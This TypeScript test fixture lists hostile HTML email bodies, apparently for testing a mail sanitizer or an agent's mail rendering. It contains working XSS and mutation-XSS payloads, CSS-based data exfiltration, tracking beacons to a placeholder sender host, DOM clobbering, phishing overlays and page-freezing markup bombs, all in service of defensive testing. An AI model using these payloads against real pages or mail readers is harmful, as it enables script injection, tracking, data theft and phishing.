/** A mail body that wants to run, fetch, navigate or deceive. */
export interface HostileMail {
  readonly name: string;
  readonly html: string;
  /** Ordinary https pictures in it, which load when the agent asks for them. */
  readonly pictures: number;
}

const NAMED = new Set<string>();
function mail(name: string, html: string, pictures = 0): HostileMail {
  if (NAMED.has(name)) throw new Error(`Two mails called ${name}`);
  NAMED.add(name);
  return { name, html, pictures };
}

/** Says that a script ran, wherever it runs. */
const RUN = 'try{(top.pwned||parent.pwned||pwned)()}catch(e){};new Image().src=`%S%/script.png`';
const many = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, i) => make(i)).join('');

/** `%S%` = the sender's server over https, `%H%` over http, each with the name of the mail in the path. */
const CODE = [
  mail('script', `<script>${RUN}</script><script src="%S%/x.js"></script>`),
  mail('img-onerror', `<img src=x onerror="${RUN}"><img src="//" onload="${RUN}" onerror="${RUN}">`),
  mail('svg-onload', `<svg onload="${RUN}"><script>${RUN}</script></svg>`),
  mail('body-onload', `<html><body onload="${RUN}" onpageshow="${RUN}">hello</body></html>`),
  mail('iframe-srcdoc', `<iframe srcdoc="<script>${RUN}</script><img src='%S%/frame.png'>"></iframe>`),
  mail('iframe-src', `<iframe src="%S%/page.html"></iframe><iframe src="javascript:${RUN}"></iframe>`),
  mail('javascript-link', `<a href="javascript:${RUN}">pay</a>`),
  mail(
    'javascript-link-split',
    `<a href="jAvA&#9;scr&#10;ipt:${RUN}">pay</a><a href="&#1;javascript:${RUN}">pay</a>`,
  ),
  mail('data-link', `<a href="data:text/html,<script>${RUN}</script>">pay</a><a href="vbscript:x">x</a>`),
  mail(
    'area-map',
    `<img usemap="#m" src="%S%/map.png"><map name="m"><area shape="default" href="javascript:${RUN}"></map>`,
    1,
  ),
  mail(
    'object-embed',
    `<object data="%S%/o.html"></object><embed src="%S%/e.html"><applet code="%S%/a.class"></applet>`,
  ),
  mail(
    'animation-events',
    `<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationstart="${RUN}">x</b><details open ontoggle="${RUN}">t</details><b style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">v</b>`,
  ),
  mail(
    'popover-is',
    `<button popovertarget="p">go</button><div id="p" popover onbeforetoggle="${RUN}" is="x-y">pop</div>`,
  ),
  mail('autofocus', `<input autofocus onfocus="${RUN}"><b tabindex="1" autofocus onfocus="${RUN}">f</b>`),
  mail(
    'foreign-object',
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe><img src="%S%/f.png" onerror="${RUN}"></foreignObject></svg>`,
  ),
  mail(
    'svg-use-data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='%S%/u.png' onerror='${RUN}'/></svg>#x"/></svg>`,
  ),
  mail(
    'smil',
    `<svg><a><set attributeName="href" to="javascript:${RUN}"/><animate attributeName="href" values="javascript:${RUN}"/><text y="9">x</text></a><image><set attributeName="href" to="%S%/smil.png"/></image></svg>`,
  ),
  mail(
    'svg-data-image',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='%S%/s.png'/></svg>"><img src="data:image/svg+xml;base64,PHN2Zy8+">`,
  ),
  mail(
    'speculation-rules',
    `<script type="speculationrules">{"prerender":[{"source":"list","urls":["%S%/s.html"]}],"prefetch":[{"source":"list","urls":["%S%/t.html"]}]}</script>`,
  ),
  mail(
    'declarative-shadow',
    `<div><template shadowrootmode="open"><img src="%S%/d.png" onerror="${RUN}"><script>${RUN}</script></template></div>`,
  ),
  mail('import-map', `<script type="module">import "%S%/m.js"</script><script type="importmap">{}</script>`),
  mail(
    'nul-bytes',
    `<scr\0ipt>${RUN}</scr\0ipt><im\0g src="%S%/n.png"><a href="java\0script:${RUN}">x</a><script\0>${RUN}</script>`,
  ),
];

const FETCHES = [
  mail('pixel', `<img src="%S%/p.gif" width="1" height="1"><img src="%H%/p.gif" width=1 height=1>`),
  mail('picture-http', `<img src="%H%/plain.png" alt="Plan">`),
  mail('picture-https', `<p>Hello</p><img src="%S%/one.png" alt="One"><img src="%S%/two.png">`, 2),
  mail(
    'picture-odd-address',
    `<img src="\\\\beacon.example\\x.png"><img src="//beacon.example/y.png"><img src="https:/\\127.0.0.1/z.png"><img src="https://[::1]/z.png"><img src="https://printer.local/z.png"><img src="file:///etc/passwd">`,
  ),
  mail(
    'srcset',
    `<img srcset="%S%/a.png 1x, %S%/b.png 2x" sizes="100vw"><img src="%S%/c.png" srcset="%S%/d.png 1x">`,
    1,
  ),
  mail('picture-source', `<picture><source srcset="%S%/a.png"><img alt="x"></picture>`),
  mail('css-url', `<b style="background:url(%S%/a.png)">x</b><style>body{background:url(%S%/b.png)}</style>`),
  mail(
    'css-escape',
    `<b style="background:\\75\\72\\6c(%S%/a.png)">x</b><b style="background:u/**/rl(%S%/b.png)">y</b>`,
  ),
  mail(
    'css-image-set',
    `<b style="background-image:image-set('%S%/a.png' 1x);border-image:cross-fade(url(%S%/b.png),red)">x</b>`,
  ),
  mail('css-import', `<style>@import "%S%/a.css";@import url(%S%/b.css);</style>`),
  mail(
    'css-font-face',
    `<style>@font-face{font-family:x;src:url(%S%/f.woff)}*{font-family:x!important}</style><p>text</p>`,
  ),
  mail(
    'css-list-style',
    `<ul style="list-style:url(%S%/l.png)"><li style="list-style-image:url('%S%/m.png')">x</li></ul><b style="cursor:url(%S%/c.cur),auto;content:url(%S%/d.png);mask:url(%S%/e.svg);filter:url(%S%/f.svg#x)">y</b>`,
  ),
  mail(
    'css-exfiltration',
    `<style>a[href^="h"]{background:url(%S%/h.png)}input[value^=a]{background:url(%S%/a.png)}</style><a href="https://shop.example/">x</a><input value="abc">`,
  ),
  mail(
    'css-closing-comment',
    `<style><!--</style><img src="%S%/x.png" title="--></style><img src=%S%/y.png>">`,
    1,
  ),
  mail(
    'link-tags',
    `<link rel=stylesheet href="%S%/s.css"><link rel=prefetch href="%S%/p.png"><link rel=preconnect href="%S%"><link rel=dns-prefetch href="//beacon.example"><link rel=icon href="%S%/i.png"><link rel=modulepreload href="%S%/m.js"><link rel=preload as=image href="%S%/q.png"><link rel=manifest href="%S%/w.json">`,
  ),
  mail(
    'table-background',
    `<table background="%S%/t.png"><tr background="%S%/r.png"><td background="%S%/d.png">x</table><body background="%S%/b.png">`,
  ),
  mail(
    'media',
    `<video poster="%S%/p.png" src="%S%/v.mp4" autoplay></video><audio src="%S%/a.mp3" autoplay></audio><video><track src="%S%/t.vtt" default><source src="%S%/s.mp4"></video>`,
  ),
  mail(
    'input-image',
    `<input type="image" src="%S%/i.png"><input type="image" src="%H%/i.png" formaction="%S%/f">`,
  ),
  mail(
    'svg-image',
    `<svg><image href="%S%/a.png"/><image xlink:href="%S%/b.png"/><feImage href="%S%/c.png"/><rect fill="url(%S%/d.svg#x)" width="9" height="9"/><filter id="f"><feImage href="%S%/e.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ),
  mail('base-and-relative', `<base href="%S%/base/"><img src="relative.png"><a href="relative.html">x</a>`),
  mail(
    'link-ping',
    `<a href="https://shop.example/" ping="%S%/ping" attributionsrc="%S%/attr">x</a><img attributionsrc="%S%/attr2">`,
  ),
  mail(
    'lazy-and-sizes',
    `<img loading="lazy" src="%S%/lazy.png" crossorigin="use-credentials" fetchpriority="high" referrerpolicy="unsafe-url">`,
    1,
  ),
  mail(
    'image-tag',
    `<image src="%S%/old.png"><img lowsrc="%S%/low.png" dynsrc="%S%/dyn.avi" longdesc="%S%/long.html">`,
    1,
  ),
  mail(
    'profile-cite',
    `<head profile="%S%/p"></head><blockquote cite="%S%/c">q</blockquote><del cite="%S%/d">d</del>`,
  ),
  mail('inline-unknown', `<img src="cid:nobody@nowhere"><img src="cid:%00"><img src="cid:%E0%A4%A">`),
  mail(
    'body-styles',
    `<html style="background:url(%S%/h.png)"><head><style>html{background:url(%S%/i.png)}</style></head><body style="background:url(%S%/j.png)" bgcolor=black text=black>unreadable</body></html>`,
  ),
];

const NAVIGATION = [
  mail(
    'form',
    `<form action="%S%/f"><input name=q autofocus><button formaction="javascript:${RUN}">Log in</button></form>`,
  ),
  mail(
    'meta-refresh',
    `<meta http-equiv="refresh" content="0;url=%S%/refresh.html"><meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  ),
  mail(
    'meta-policy',
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url><img src="%S%/m.png">`,
    1,
  ),
  mail(
    'target-top',
    `<a href="%S%/top.html" target="_top">x</a><base target="_top"><a href="%S%/parent.html" target="_parent" rel="opener">y</a>`,
  ),
  mail(
    'fixed-overlay',
    `<div style="position:fixed;inset:0;z-index:9;background:#fff">Your session has expired. <a href="%S%/login">Log in</a></div>`,
  ),
  mail(
    'dialog-open',
    `<dialog open><form method=dialog><button>OK</button></form></dialog><portal src="%S%/p.html"></portal><fencedframe></fencedframe>`,
  ),
  mail('rtl-override', `<a href="%S%/x">https://bank.example/\u202egpj.exe</a>`),
  mail('other-host', `<a href="https://user:pass@evil.example/">https://www.bank.example/login</a>`),
  mail(
    'clobbering',
    `<img name="body"><a id="config" href="x:y"></a><form id="forms" name="getElementById"><input name="cookie"><input name="attributes"><input name="parentNode"></form><img name="cookie"><a id="defaultView"></a><object name="pwned"></object>`,
  ),
  mail(
    'constructor-clobbering',
    `<form id="__proto__"><input name="constructor"></form><a id="hasOwnProperty" name="toString">x</a><img name="currentScript">`,
  ),
];

/** Markup that changes its meaning when it is written out and read again (mXSS), or is hard to read at all. */
const MUTATIONS = [
  mail(
    'mglyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ),
  mail('title-break', `<svg></p><title><a title="</title><img src='%S%/t.png' onerror='${RUN}'>">`),
  mail(
    'noscript-break',
    `<noscript><p title="</noscript><img src=%S%/n.png onerror='${RUN}'>"></noscript>`,
    0,
  ),
  mail(
    'template-break',
    `<template><script>${RUN}</script><img src="%S%/t.png"></template><textarea></textarea><img src=%S%/x.png>`,
    1,
  ),
  mail(
    'bang-comment',
    `<!--><img src="%S%/a.png" onerror="${RUN}">--><! foo="><script>${RUN}</script>"><?xml-stylesheet href="%S%/s.css"?>`,
    1,
  ),
  mail(
    'nested-form',
    `<form><div></form><form id=x><svg><style><a title="</style><img src=%S%/x onerror=${RUN}>">`,
  ),
  mail(
    'cdata',
    `<svg><![CDATA[><img src="%S%/c.png" onerror="${RUN}">]]></svg><![CDATA[<script>${RUN}</script>]]>`,
    0,
  ),
  mail(
    'select-break',
    `<select><template><style><!--</template><img src=%S%/z onerror=${RUN}></select><xmp><img title="</xmp><img src=%S%/y onerror=${RUN}>"></xmp>`,
  ),
  mail('plaintext', `<p>before</p><plaintext><script>${RUN}</script><img src=%S%/p.png>`),
  mail(
    'math-annotation',
    `<math><annotation-xml encoding="text/html"><style><img src=%S%/m onerror=${RUN}></style></annotation-xml><maction actiontype="statusline#%S%" xlink:href="javascript:${RUN}">x</maction></math>`,
  ),
  mail('unclosed', `<div><p>text <img src="%S%/u.png`),
];

/** Costs: each of these freezes or kills a careless page. */
const BOMBS = [
  mail('deep', `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`),
  mail('deep-quotes', `${'<blockquote><table><tr><td>'.repeat(1500)}deep`),
  mail('long-line', 'x'.repeat(1_000_000)),
  mail(
    'long-attribute',
    `<a href="https://shop.example/${'a'.repeat(200_000)}" title="${'t'.repeat(30_000)}">x</a>`,
  ),
  mail('formatting-bomb', `${many(4000, (i) => `<b x=${i}>`)}${'<p>x'.repeat(40_000)}`),
  mail(
    'formatting-bomb-plain',
    `${'<b><i><u><s><em><tt><code><big><small><strong>'.repeat(3)}${'<p>x'.repeat(60_000)}`,
  ),
  mail('hoist-bomb', `${'<x-y>'.repeat(480)}${'<br>'.repeat(60_000)}`),
  mail('unknown-bomb', `${'<form><x>'.repeat(20_000)}${'<y>z'.repeat(10_000)}`),
  mail('many-tags', '<i>x</i><br>'.repeat(22_000)),
  mail('unclosed-bomb', '<b <i '.repeat(45_000)),
  mail('script-bomb', '<script>'.repeat(120_000)),
  mail('entities', '&amp;&#0;&#x10ffff;&notanentity;'.repeat(3_000)),
  mail('table-bomb', `<table>${'<tr><td colspan=1000 rowspan=65534>'.repeat(300)}`),
  mail('zalgo', `<p>Z${'\u0300\u0301\u0489'.repeat(2000)}</p><p>\u202e\u2066\u2067bidi\ud800</p>`),
];

/** Every way of acting or calling home that is known from other mail readers, with variants. */
export const HOSTILE_MAILS: readonly HostileMail[] = [
  ...CODE,
  ...FETCHES,
  ...NAVIGATION,
  ...MUTATIONS,
  ...BOMBS,
];

/** Those that no page survives without cleaning first. */
export const BOMB_NAMES: ReadonlySet<string> = new Set(BOMBS.map(({ name }) => name));

/** The body with the sender's addresses filled in. */
export const withBeacon = (one: HostileMail, beacon: { readonly http: string; readonly https: string }) =>
  one.html.replaceAll('%S%', `${beacon.https}/${one.name}`).replaceAll('%H%', `${beacon.http}/${one.name}`);
